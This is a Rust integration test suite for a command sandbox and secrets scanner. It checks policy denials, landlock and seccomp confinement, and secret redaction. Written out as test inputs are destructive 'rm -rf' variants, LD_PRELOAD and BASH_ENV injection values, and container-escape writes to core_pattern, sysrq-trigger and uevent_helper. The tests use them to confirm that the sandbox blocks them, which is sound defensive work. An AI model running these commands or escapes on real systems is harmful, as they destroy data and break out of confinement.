                .env("BASH_ENV", "/tmp/evil")
                .env("SHELLOPTS", "xtrace")
                .env("PS4", "$(echo PS4-INJECTED)")
                .output()
                .expect("run");
            let out = text(&o);
            assert_eq!(o.status.code(), Some(0), "{policy}: {out}");
            // (The caller's own LD_PRELOAD also loads into the gateway process itself; what matters
            // is that it does not reach the sandboxed program, `env`.)
            for leaked in [
                "SECRETVALUE1",
                "AWSSECRETVALUE2",
                "PASSWORDVALUE3",
                "APIKEYVALUE4",
                "SSH_AUTH_SOCK",
                "LD_PRELOAD=",
                "INJECTED into env",
                "BASH_ENV",
                "SHELLOPTS",
                "PS4-INJECTED",
            ] {
                assert!(!out.contains(leaked), "{policy} leaked {leaked}: {out}");
            }
        }
        // The library does inject when not scrubbed (control).
        let o = Command::new("true")
            .env("LD_PRELOAD", &lib)
            .output()
            .expect("run");
        assert!(String::from_utf8_lossy(&o.stderr).contains("INJECTED into true"));
        // Asking for a scrubbed variable explicitly is refused.
        let o = env
            .cmd()
            .args([
                "exec",
                "--policy",
                "strict",
                "--env",
                "LD_PRELOAD=/x.so",
                "--",
                "true",
            ])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(122), "{}", text(&o));
    }
}

// ---------------------------------------------------------------- policy decisions

sandbox_test! {
    fn policy_denies_destructive_commands() {
        let env = Env::new("deny");
        env.write("keep/a.txt", "keep");
        for argv in [
            vec!["rm", "-rf", "keep"],
            vec!["rm", "-fr", "keep"],
            vec!["rm", "-r", "-f", "keep"],
            vec!["/bin/rm", "-rf", "keep"],
            vec!["sh", "-c", "ls; rm -rf keep"],
            vec!["bash", "-c", "echo x && rm -rf keep"],
            vec!["sh", "-c", "$(echo rm) -rf keep"],
        ] {
            let o = env.exec("strict", &argv);
            assert_eq!(o.status.code(), Some(120), "{argv:?}: {}", text(&o));
            let err = String::from_utf8_lossy(&o.stderr);
            assert!(
                err.contains("rule deny-rm-recursive-force"),
                "{argv:?}: {err}"
            );
            assert!(env.ws.join("keep/a.txt").exists());
        }
        // standard asks; without a terminal that means "not run", with its own exit code.
        let o = env.exec("standard", &["rm", "-rf", "keep"]);
        assert_eq!(o.status.code(), Some(121), "{}", text(&o));
        assert!(
            String::from_utf8_lossy(&o.stderr).contains("no terminal"),
            "{}",
            text(&o)
        );
        assert!(env.ws.join("keep/a.txt").exists());
        let o = env.exec("standard", &["rm", "-rf", "/"]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
    }
}

#[test]
fn policy_explain_json_names_rules_and_sandbox() {
    let env = Env::new("explain");
    let o = env
        .cmd()
        .args([
            "--json",
            "policy",
            "explain",
            "--policy",
            "strict",
            "--",
            "sh",
            "-c",
            "ls; rm -rf ~",
        ])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["decision"]["effect"], "deny");
    let ids: Vec<&str> = v["decision"]["rules"]
        .as_array()
        .expect("rules")
        .iter()
        .filter_map(|r| r["id"].as_str())
        .collect();
    assert!(ids.contains(&"deny-rm-recursive-force"), "{ids:?}");
    assert_eq!(v["sandbox"]["network"], "none");
    assert!(v["sandbox"]["write"].as_array().expect("write").iter().any(|w| w.as_str() == Some(env.ws.canonicalize().expect("ws").to_str().expect("utf8"))));
    let o = env.cmd().args(["policy", "list"]).output().expect("run");
    let s = stdout(&o);
    assert!(
        s.contains("strict") && s.contains("standard") && s.contains("permissive"),
        "{s}"
    );
}

#[test]
fn policy_check_reports_file_line_column() {
    let env = Env::new("check");
    let p = env.policy_file("[[rule]]\nid = \"x\"\neffect = \"allow\"\nreason = \"r\"\ntools = [\"exec\"]\ncommand = [\"rm\", \"[\"]\n");
    let o = env
        .cmd()
        .args(["policy", "check", &p])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(123), "{}", text(&o));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains(&format!("{p}:6:")), "{err}");
    assert_eq!(err.trim().lines().count(), 1, "one line: {err}");
    let good = env.policy_file("extends = \"strict\"\n");
    let o = env
        .cmd()
        .args(["policy", "check", &good])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
}

// ---------------------------------------------------------------- bad input

sandbox_test! {
    fn bad_input_gets_one_line_errors_and_documented_codes() {
        let env = Env::new("badinput");
        let bad = env.policy_file("[sandbox]\nnetwork = 5\n");
        let cases: Vec<(Vec<String>, i32, &str)> = vec![
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    bad.clone(),
                    "--".into(),
                    "true".into(),
                ],
                123,
                ":2:",
            ),
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    "nosuch".into(),
                    "--".into(),
                    "true".into(),
                ],
                123,
                "unknown policy `nosuch`",
            ),
            (
                vec!["exec".into(), "--policy".into(), "strict".into()],
                122,
                "required",
            ),
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    "strict".into(),
                    "--".into(),
                    "no-such-program-xyz".into(),
                ],
                127,
                "command not found",
            ),
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    "strict".into(),
                    "--cwd".into(),
                    "/".into(),
                    "--".into(),
                    "true".into(),
                ],
                122,
                "workspace",
            ),
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    "strict".into(),
                    "--cwd".into(),
                    env.home.display().to_string(),
                    "--".into(),
                    "true".into(),
                ],
                122,
                "is not allowed",
            ),
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    "strict".into(),
                    "--cwd".into(),
                    "/nonexistent-dir".into(),
                    "--".into(),
                    "true".into(),
                ],
                122,
                "--cwd",
            ),
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    "strict".into(),
                    "--timeout".into(),
                    "-1".into(),
                    "--".into(),
                    "true".into(),
                ],
                122,
                "timeout",
            ),
            (vec!["exec".into(), "--bogus".into()], 122, "bogus"),
            (
                vec![
                    "exec".into(),
                    "--policy".into(),
                    "strict".into(),
                    "--".into(),
                    "/etc/hostname".into(),
                ],
                126,
                "cannot execute",
            ),
        ];
        std::fs::create_dir_all(env.home.join(".ssh")).expect("mkdir");
        for (args, code, needle) in cases {
            let o = env.cmd().args(&args).output().expect("run");
            let err = String::from_utf8_lossy(&o.stderr).to_string();
            assert_eq!(o.status.code(), Some(code), "{args:?}: {}", text(&o));
            assert!(err.contains(needle), "{args:?}: {err}");
            assert!(!err.contains("panicked"), "{args:?}: {err}");
            assert_eq!(err.trim().lines().count(), 1, "{args:?}: one line: {err}");
        }
    }
}

sandbox_test! {
    fn kernel_without_landlock_fails_closed() {
        // A wrapper installs a seccomp filter that makes landlock_create_ruleset fail with ENOSYS,
        // exactly what a kernel without landlock answers, then runs the gateway.
        let env = Env::new("nolandlock");
        let src = env.root.join("nolandlock.c");
        std::fs::write(
            &src,
            r#"#include <linux/filter.h>
#include <linux/seccomp.h>
#include <stddef.h>
#include <errno.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <unistd.h>
int main(int argc, char **argv) {
        struct sock_filter f[] = {
            BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
            BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_landlock_create_ruleset, 0, 1),
            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOSYS),
            BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        };
        struct sock_fprog p = { sizeof f / sizeof f[0], f };
        if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) || prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &p)) return 99;
        execv(argv[1], argv + 1);
        return 98;
}
"#,
        )
        .expect("write");
        let wrapper = env.root.join("nolandlock");
        gcc(&src, &wrapper, &[]);
        let o = env
            .raw(&wrapper)
            .args([BIN, "exec", "--policy", "strict", "--", "true"])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(125), "{}", text(&o));
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(
            err.contains("landlock") && err.contains("best_effort"),
            "{err}"
        );
        assert_eq!(err.trim().lines().count(), 1, "{err}");
        // best_effort runs and says landlock was not applied.
        let p = env.policy_file("extends = \"strict\"\n[sandbox]\nbest_effort = true\n");
        let o = env
            .raw(&wrapper)
            .args([BIN, "--json", "exec", "--policy", &p, "--", "true"])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["enforcement"]["landlock"]["fs"], false);
        assert!(
            v["enforcement"]["not_applied"]
                .to_string()
                .contains("landlock")
        );
    }
}

// ---------------------------------------------------------------- ordinary work (controls)

sandbox_test! {
    fn control_compile_and_run_c() {
        let env = Env::new("cc");
        env.write(
            "hello.c",
            "#include <stdio.h>\nint main(void){ puts(\"hello from c\"); return 3; }\n",
        );
        let o = env.sh("strict", "gcc -o hello hello.c && ./hello");
        assert_eq!(o.status.code(), Some(3), "{}", text(&o));
        assert_eq!(stdout(&o).trim(), "hello from c");
    }
}

sandbox_test! {
    fn control_python_git_pipes_stdin() {
        let env = Env::new("controls");
        let o = env.exec(
            "strict",
            &[
                "python3",
                "-c",
                "import json,sys; print(json.dumps({'a': 2**10}))",
            ],
        );
        assert_eq!(stdout(&o).trim(), "{\"a\": 1024}", "{}", text(&o));
        let o = env.sh(
            "strict",
            "git init -q . && echo x > f && git add f && git -c user.name=t -c user.email=t@e commit -qm init && git log --oneline | wc -l",
        );
        assert_eq!(stdout(&o).trim(), "1", "{}", text(&o));
        let o = env.sh("standard", "seq 1 100 | sort -rn | head -1");
        assert_eq!(stdout(&o).trim(), "100", "{}", text(&o));
        let mut child = env
            .cmd()
            .args(["exec", "--policy", "strict", "--", "tr", "a-z", "A-Z"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .spawn()
            .expect("spawn");
        child
            .stdin
            .take()
            .expect("stdin")
            .write_all(b"through stdin\n")
            .expect("write");
        let o = child.wait_with_output().expect("wait");
        assert_eq!(stdout(&o), "THROUGH STDIN\n");
    }
}

sandbox_test! {
    fn control_exit_codes_and_signals() {
        let env = Env::new("codes");
        assert_eq!(env.sh("strict", "exit 7").status.code(), Some(7));
        assert_eq!(
            env.sh("strict", "kill -TERM $$").status.code(),
            Some(128 + 15)
        );
        let o = env
            .cmd()
            .args([
                "--json",
                "exec",
                "--policy",
                "strict",
                "--",
                "sh",
                "-c",
                "echo out; echo err >&2; exit 4",
            ])
            .output()
            .expect("run");
        assert_eq!(o.status.code(), Some(4));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["stdout"], "out\n");
        assert_eq!(v["stderr"], "err\n");
        assert_eq!(v["exit_code"], 4);
        assert_eq!(v["decision"], "allow");
        assert_eq!(v["enforcement"]["landlock"]["fs"], true);
        assert_eq!(v["enforcement"]["seccomp"], true);
        assert_eq!(v["enforcement"]["capabilities_dropped"], true);
        assert_eq!(v["enforcement"]["pid_namespace"], true);
        assert_eq!(
            v["enforcement"]["not_applied"].as_array().map(|a| a.len()),
            Some(0)
        );
    }
}

sandbox_test! {
    fn output_limit_stops_the_run() {
        let env = Env::new("outlimit");
        let p = env.policy_file("extends = \"strict\"\n[sandbox.limits]\noutput = \"64KiB\"\n");
        let o = env.exec(&p, &["yes"]);
        assert_eq!(
            o.status.code(),
            Some(137),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
        assert_eq!(o.stdout.len(), 64 * 1024);
    }
}

sandbox_test! {
    fn ask_prompts_on_a_terminal() {
        // Under a pty (python's pty module), `ask` prompts on the terminal: "y" runs the command,
        // anything else does not (exit 121).
        for (answer, code, kept) in [("y", 0, false), ("n", 121, true)] {
            let env = Env::new("ask");
            env.write("victim/a.txt", "x");
            let script = format!(
                "import os,pty,sys\n\
                 pid, fd = pty.fork()\n\
                 if pid == 0:\n\
                 \x20   os.execv(sys.argv[1], sys.argv[1:])\n\
                 out = b''\n\
                 while b'[y/N]' not in out:\n\
                 \x20   out += os.read(fd, 1024)\n\
                 os.write(fd, b'{answer}\\n')\n\
                 while True:\n\
                 \x20   try:\n\
                 \x20       chunk = os.read(fd, 1024)\n\
                 \x20   except OSError:\n\
                 \x20       break\n\
                 \x20   if not chunk:\n\
                 \x20       break\n\
                 \x20   out += chunk\n\
                 sys.stdout.write(out.decode(errors='replace'))\n\
                 sys.exit(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))\n"
            );
            let o = env
                .raw("python3")
                .args([
                    "-c", &script, BIN, "exec", "--policy", "standard", "--", "rm", "-rf", "victim",
                ])
                .output()
                .expect("run under pty");
            assert_eq!(o.status.code(), Some(code), "answer {answer}: {}", text(&o));
            assert!(
                stdout(&o).contains("ask-rm-recursive"),
                "the prompt names the rule: {}",
                text(&o)
            );
            assert_eq!(
                env.ws.join("victim/a.txt").exists(),
                kept,
                "answer {answer}"
            );
        }
    }
}

sandbox_test! {
    fn killing_the_broker_kills_the_run() {
        let env = Env::new("brokerkill");
        let marker = format!("3{}.75", std::process::id());
        for policy in ["strict", "standard"] {
            let mut child = env
                .cmd()
                .args(["exec", "--policy", policy, "--", "sh", "-c"])
                .arg(format!("setsid sleep {marker} & sleep {marker}"))
                .spawn()
                .expect("spawn");
            // Wait until the sandboxed sleeps run, then SIGKILL the gateway itself.
            let t = std::time::Instant::now();
            while sleeps(&marker).len() < 2 && t.elapsed() < std::time::Duration::from_secs(10) {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            assert_eq!(sleeps(&marker).len(), 2, "{policy}: the run did not start");
            child.kill().expect("kill gateway");
            let _ = child.wait();
            let t = std::time::Instant::now();
            while !sleeps(&marker).is_empty() && t.elapsed() < std::time::Duration::from_secs(5) {
                std::thread::sleep(std::time::Duration::from_millis(20));
            }
            assert!(
                sleeps(&marker).is_empty(),
                "{policy} survivors: {:?}",
                sleeps(&marker)
            );
        }
    }
}

/// The `sleep MARKER` processes (not the gateway or shells whose argv mention the marker).
fn sleeps(marker: &str) -> Vec<String> {
    processes_with(marker)
        .into_iter()
        .filter(|p| {
            p.split_once(": ")
                .is_some_and(|(_, c)| c.starts_with(&format!("sleep {marker}")))
        })
        .collect()
}

sandbox_test! {
    fn unprivileged_broker_still_confines() {
        // As uid 65534 there are no namespaces, but landlock, seccomp and rlimits hold, and
        // the run says what was not applied.
        let env = Env::new("unpriv");
        std::fs::write(env.outside.join("secret"), "UNPRIV-SECRET").expect("write");
        env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        let st = Command::new("chown")
            .args(["-R", "65534:65534"])
            .arg(&env.root)
            .status()
            .expect("chown");
        assert!(st.success());
        let as_nobody = |policy: &str, script: &str| {
            env.raw("setpriv")
                .args(["--reuid=65534", "--regid=65534", "--clear-groups", "--"])
                .args([BIN, "--json", "exec", "--policy", policy, "--", "sh", "-c", script])
                .stdin(Stdio::null())
                .output()
                .expect("setpriv")
        };
        let o = as_nobody("strict", "echo ok > f && cat f");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert_eq!(v["stdout"], "ok\n");
        assert_eq!(v["enforcement"]["pid_namespace"], false);
        assert_eq!(v["enforcement"]["landlock"]["fs"], true);
        assert_eq!(v["enforcement"]["seccomp"], true);
        assert_eq!(v["enforcement"]["fully_enforced"], false);
        let not_applied = v["enforcement"]["not_applied"].to_string();
        assert!(not_applied.contains("namespaces") && not_applied.contains("protected"), "{not_applied}");
        // Files outside stay unreadable (landlock, not permissions: the file is nobody's).
        let o = as_nobody("strict", &format!("cat {}", env.outside.join("secret").display()));
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert!(!v["stdout"].to_string().contains("UNPRIV-SECRET"), "{v}");
        assert_ne!(v["exit_code"], 0);
        // standard's loopback falls back to no network at all.
        let o = as_nobody(
            "standard",
            "python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_STREAM); print(\"SOCKET\")'",
        );
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        assert!(!v["stdout"].to_string().contains("SOCKET"), "{v}");
        assert!(v["enforcement"]["not_applied"].to_string().contains("loopback"), "{v}");
    }
}

sandbox_test! {
    fn control_private_dev_shm_and_multiprocessing() {
        // Python's multiprocessing needs POSIX semaphores in /dev/shm: each run gets its own.
        let env = Env::new("shm");
        let marker = format!("gw-shm-{}", std::process::id());
        for policy in ["strict", "standard"] {
            let o = env.exec(
                policy,
                &[
                    "python3",
                    "-c",
                    &format!(
                        "import multiprocessing as m\nprint(m.Pool(2).map(abs, [-1, -2]))\nopen('/dev/shm/{marker}', 'w').write('x')"
                    ),
                ],
            );
            assert_eq!(stdout(&o).trim(), "[1, 2]", "{policy}: {}", text(&o));
            assert!(!Path::new("/dev/shm").join(&marker).exists(), "{policy}: /dev/shm is the host's");
            let o = env.exec(policy, &["ls", "-A", "/dev/shm"]);
            assert_stdout_lacks(&o, &marker, policy);
        }
    }
}

sandbox_test! {
    fn escape_raw_devices() {
        // Under policies that read `/`, block devices and non-safe character devices are
        // refused by landlock (EACCES). Some kernels also refuse a capless open of a block
        // device (EPERM); the test wants landlock's answer, so that it does not rely on that.
        let env = Env::new("devices");
        let block = std::fs::read_dir("/dev")
            .expect("/dev")
            .flatten()
            .find(|e| {
                use std::os::unix::fs::FileTypeExt;
                e.file_type().map(|t| t.is_block_device()).unwrap_or(false)
            })
            .map(|e| e.path().display().to_string());
        let mut targets = vec!["/dev/kmsg".to_string()];
        targets.extend(block);
        for policy in ["standard", "permissive"] {
            for dev in &targets {
                let o = env.exec(policy, &["head", "-c", "16", dev]);
                assert_ne!(o.status.code(), Some(0), "{policy} {dev}: {}", text(&o));
                assert!(
                    String::from_utf8_lossy(&o.stderr).contains("Permission denied"),
                    "{policy} {dev}: expected landlock's EACCES: {}",
                    text(&o)
                );
            }
            // The safe devices still work.
            let o = env.sh(policy, "head -c 4 /dev/urandom | wc -c; echo x > /dev/null && echo ok");
            assert_eq!(stdout(&o), "4\nok\n", "{policy}: {}", text(&o));
        }
    }
}

sandbox_test! {
    fn deny_inside_workspace_hides_files() {
        // A policy may hide files inside the workspace (secrets in .env): the run does not see
        // their content and cannot change them, and the rest of the workspace stays writable.
        let env = Env::new("hidden");
        env.write(".env", "DB_PASSWORD=hunter2-HIDDEN\n");
        env.write(".env.local", "TOKEN-HIDDEN2\n");
        env.write("src/main.c", "int main(void){return 0;}\n");
        let p = env.policy_file("extends = \"strict\"\n[sandbox]\ndeny = [\"${WORKSPACE}/.env*\"]\n");
        let o = env.sh(&p, "cat .env .env.local; echo new > newfile && cat newfile; echo '/* x */' >> src/main.c");
        assert_stdout_lacks(&o, "HIDDEN", "hidden .env");
        assert!(stdout(&o).contains("new"), "{}", text(&o));
        for script in ["echo y > .env", "rm -f .env.local", "mv .env gone"] {
            let o = env.sh(&p, script);
            assert_ne!(o.status.code(), Some(0), "`{script}`: {}", text(&o));
        }
        assert_eq!(std::fs::read_to_string(env.ws.join(".env")).expect("read"), "DB_PASSWORD=hunter2-HIDDEN\n");
        assert!(env.ws.join(".env.local").exists());
        assert!(std::fs::read_to_string(env.ws.join("src/main.c")).expect("read").contains("x */"));
        // Also inside a directory pinned because it holds protected paths (`.git`).
        env.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        env.write(".git/secret-token", "GIT-TOKEN-HIDDEN\n");
        let p = env.policy_file("extends = \"strict\"\n[sandbox]\ndeny = [\"${WORKSPACE}/.git/secret*\"]\n");
        let o = env.exec(&p, &["cat", ".git/secret-token"]);
        assert_stdout_lacks(&o, "GIT-TOKEN-HIDDEN", "hidden inside a pinned directory");
    }
}

sandbox_test! {
    fn escape_proc_sys_and_sysfs_writes() {
        // Classic container escapes: a core_pattern pipe, sysrq, the uevent helper.
        let env = Env::new("procsys");
        let before = std::fs::read_to_string("/proc/sys/kernel/core_pattern").expect("core_pattern");
        for policy in ["strict", "standard", "permissive"] {
            for (file, value) in [
                ("/proc/sys/kernel/core_pattern", "|/tmp/gw-evil"),
                ("/proc/sysrq-trigger", "h"),
                ("/sys/kernel/uevent_helper", "/tmp/gw-evil"),
            ] {
                let o = env.sh(policy, &format!("printf '%s' '{value}' > {file}"));
                assert_ne!(o.status.code(), Some(0), "{policy} {file}: {}", text(&o));
            }
        }
        assert_eq!(std::fs::read_to_string("/proc/sys/kernel/core_pattern").expect("core_pattern"), before);
    }
}

#[test]
fn json_reports_denials() {
    let env = Env::new("jsondeny");
    let o = env
        .cmd()
        .args([
            "--json", "exec", "--policy", "strict", "--", "rm", "-rf", "x",
        ])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(120), "{}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["decision"], "deny");
    assert_eq!(v["ran"], false);
    assert!(
        v["rules"]
            .as_array()
            .expect("rules")
            .iter()
            .any(|r| r["id"] == "deny-rm-recursive-force"
                && r["reason"].as_str().is_some_and(|s| !s.is_empty())),
        "{v}"
    );
}

sandbox_test! {
    fn escape_setuid_bits_left_behind() {
        // A setuid-root file left in the workspace would give root to whoever runs it later,
        // outside the sandbox. Setting S_ISUID/S_ISGID is refused in every policy.
        for policy in ["strict", "standard", "permissive"] {
            assert_attack_blocked(policy, "setuid-bit", None);
        }
        let env = Env::new("suid");
        env.write("tool", "#!/bin/sh\n");
        let o = env.sh("standard", "chmod u+s tool; chmod 2755 tool; install -m 4755 tool tool2; cp -p /usr/bin/passwd pw 2>/dev/null; true");
        assert_eq!(o.status.code(), Some(0), "{}", text(&o));
        for f in ["tool", "tool2", "pw"] {
            if let Ok(m) = std::fs::metadata(env.ws.join(f)) {
                assert_eq!(m.permissions().mode() & 0o6000, 0, "{f} has a setuid/setgid bit");
            }
        }
        // Control: unconfined, the fixture does set the bits.
        let o = Command::new(attack_bin()).arg("setuid-bit").current_dir(&env.ws).output().expect("run");
        assert!(stdout(&o).contains("ESCAPED"), "{}", text(&o));
    }
}

// ---------- secrets ----------

#[path = "secrets/corpus.rs"]
mod corpus;

#[test]
fn secrets_corpus_recall_and_precision() {
    corpus::corpus_recall_and_precision();
}

#[test]
fn secrets_corpus_covers_every_rule() {
    let mut ids: Vec<&str> = gateway::secrets::rules::RULES
        .iter()
        .map(|r| r.id)
        .collect();
    ids.extend(["high-entropy-base64", "high-entropy-hex"]);
    corpus::every_rule_has_three_positives(&ids);
}

/// Generated secrets for tests (no literal secrets in the repository).
fn gh_token(seed: u64) -> String {
    corpus::expand("ghp_{a:36}", seed)
}

fn stderr(o: &Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn scan_reports_json_without_secret_values_and_exits_1() {
    let env = Env::new("scan-json");
    let tok = gh_token(1);
    env.write("src/app.py", &format!("token = \"{tok}\"\n"));
    env.write("clean.txt", "nothing here\n");
    let o = env
        .cmd()
        .args(["scan", "--format", "json", "."])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    let f = &v["findings"][0];
    assert_eq!(f["rule"], "github-pat");
    assert_eq!(f["path"], "./src/app.py");
    assert_eq!(f["line"], 1);
    assert_eq!(f["column"], 10);
    assert_eq!(f["fingerprint"].as_str().map(str::len), Some(64));
    assert_eq!(v["files_scanned"], 2);
    assert!(v["bytes_scanned"].as_u64().is_some_and(|b| b > 40));
    assert!(v["duration_ms"].is_u64());
    assert!(
        !String::from_utf8_lossy(&o.stdout).contains(&tok),
        "secret value in the report"
    );
    // Clean tree: exit 0.
    let o = env.cmd().args(["scan", "clean.txt"]).output().expect("run");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
}

#[test]
fn scan_respects_gitignore_exclude_and_scans_dotfiles() {
    let env = Env::new("scan-ignore");
    std::fs::create_dir_all(env.ws.join(".git")).expect("git dir");
    env.write(".gitignore", "ignored/\n");
    env.write("ignored/a.env", &format!("T={}\n", gh_token(2)));
    env.write("vendor/b.env", &format!("T={}\n", gh_token(3)));
    env.write(".env", &format!("T={}\n", gh_token(4)));
    let paths = |args: &[&str]| -> Vec<String> {
        let o = env
            .cmd()
            .args(["scan", "--json"])
            .args(args)
            .arg(".")
            .output()
            .expect("run");
        let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
        let mut p: Vec<String> = v["findings"]
            .as_array()
            .expect("findings")
            .iter()
            .map(|f| f["path"].as_str().expect("path").to_string())
            .collect();
        p.sort();
        p
    };
    assert_eq!(paths(&[]), ["./.env", "./vendor/b.env"]);
    assert_eq!(paths(&["--exclude", "vendor/**"]), ["./.env"]);
    assert_eq!(
        paths(&["--no-ignore"]),
        ["./.env", "./ignored/a.env", "./vendor/b.env"]
    );
}

#[test]
fn scan_baseline_hides_known_findings_and_stores_no_secret() {
    let env = Env::new("scan-baseline");
    let tok = gh_token(5);
    env.write("a.py", &format!("t = \"{tok}\"\n"));
    let base = env.root.join("baseline.json");
    let run = || {
        env.cmd()
            .args(["scan", "--json", "--baseline"])
            .arg(&base)
            .arg(".")
            .output()
            .expect("run")
    };
    let o = run();
    assert_eq!(o.status.code(), Some(1), "first run reports: {}", text(&o));
    let b = std::fs::read_to_string(&base).expect("baseline written");
    assert!(b.contains("github-pat") && !b.contains(&tok), "{b}");
    let o = run();
    assert_eq!(o.status.code(), Some(0), "known finding: {}", text(&o));
    // A new secret is reported; the known one is not.
    env.write("b.py", &format!("t = \"{}\"\n", gh_token(6)));
    let o = run();
    assert_eq!(o.status.code(), Some(1));
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["findings"].as_array().map(Vec::len), Some(1));
    assert_eq!(v["findings"][0]["path"], "./b.py");
}

#[test]
fn scan_redact_rewrites_with_backup_and_journal() {
    use std::os::unix::fs::PermissionsExt;
    let env = Env::new("scan-redact");
    let tok = gh_token(7);
    let p = env.write(
        "cfg.py",
        &format!("# config\ntoken = \"{tok}\"\nname = 'x'\n"),
    );
    std::fs::set_permissions(&p, std::fs::Permissions::from_mode(0o640)).expect("chmod");
    let o = env
        .cmd()
        .args(["scan", "--redact", "."])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(1), "{}", text(&o));
    let now = std::fs::read_to_string(&p).expect("read");
    assert_eq!(
        now,
        "# config\ntoken = \"[REDACTED:github-pat]\"\nname = 'x'\n"
    );
    assert_eq!(
        std::fs::metadata(&p).expect("meta").permissions().mode() & 0o777,
        0o640
    );
    // The old content (and the new) is in the backup store, named by its hash; the journal
    // says so.
    let backups: Vec<String> = std::fs::read_dir(env.state.join("backups"))
        .expect("backups")
        .flatten()
        .map(|e| std::fs::read_to_string(e.path()).expect("backup"))
        .collect();
    assert_eq!(backups.len(), 2);
    assert!(backups.iter().any(|b| b.contains(&tok)));
    assert!(backups.contains(&now));
    let journal =
        std::fs::read_to_string(env.state.join("journal/journal.jsonl")).expect("journal");
    assert!(
        journal.contains("\"tool\":\"scan.redact\"")
            && journal.contains("\"phase\":\"commit\"")
            && !journal.contains(&tok),
        "{journal}"
    );
    // Scanning again finds nothing.
    let o = env.cmd().args(["scan", "."]).output().expect("run");
    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
}

#[test]
fn scan_sarif_validates_against_the_schema() {
    // The SARIF multitool (Microsoft's validator, from npm; .ci/run installs it) checks the
    // output against the SARIF 2.1.0 schema and its rules.
    let tool = std::env::var_os("GATEWAY_SARIF_MULTITOOL")
        .map(PathBuf::from)
        .unwrap_or_else(|| {
            Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("target/tools/node_modules/@microsoft/sarif-multitool-linux/Sarif.Multitool")
        });
    if std::env::var_os("GATEWAY_TEST_NO_SARIF").is_some() {
        eprintln!("skipped: GATEWAY_TEST_NO_SARIF is set");
        return;
    }
    assert!(
        tool.exists(),
        "{} missing: npm install --prefix target/tools @microsoft/sarif-multitool (or set GATEWAY_TEST_NO_SARIF=1 to skip explicitly)",
        tool.display()
    );
    let env = Env::new("scan-sarif");
    env.write(
        "a.py",
        &format!("t = \"{}\"\npassword = \"Tr0ub4dor&3\"\n", gh_token(8)),
    );
    env.write(
        "dir with space/b.env",
        &format!("K={}\n", corpus::expand("AKIA{U:16}", 9)),
    );
    let o = env
        .cmd()
        .args(["scan", "--format", "sarif", "."])
        .output()
        .expect("run");
    assert_eq!(o.status.code(), Some(1));
    let sarif = env.root.join("out.sarif");
    std::fs::write(&sarif, &o.stdout).expect("write");
    let v: serde_json::Value = serde_json::from_slice(&o.stdout).expect("json");
    assert_eq!(v["version"], "2.1.0");
    assert_eq!(v["runs"][0]["results"].as_array().map(Vec::len), Some(3));
    let log = env.root.join("validation.sarif");
    let vo = Command::new(&tool)
        .arg("validate")
        .arg(&sarif)
        .arg("-o")
        .arg(&log)
        .output()
        .expect("run the SARIF multitool");
    let report: serde_json::Value =
        serde_json::from_slice(&std::fs::read(&log).expect("validation log")).expect("log json");
    let problems = report["runs"][0]["results"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    assert!(
        problems.is_empty(),
        "SARIF validation: {problems:#?}\n{}",
        String::from_utf8_lossy(&vo.stdout)
    );
}

sandbox_test!(
    fn exec_refuses_secret_in_argv_naming_rule_and_position() {
        let env = Env::new("sec-argv");
        let tok = gh_token(10);
        let o = env.exec("strict", &["echo", "hello", &tok]);
        assert_eq!(o.status.code(), Some(120), "{}", text(&o));
        let e = stderr(&o);
        assert!(e.contains("argument 2") && e.contains("github-pat"), "{e}");
        assert!(
            !e.contains(&tok) && !stdout(&o).contains(&tok),
            "value leaked: {e}"
        );
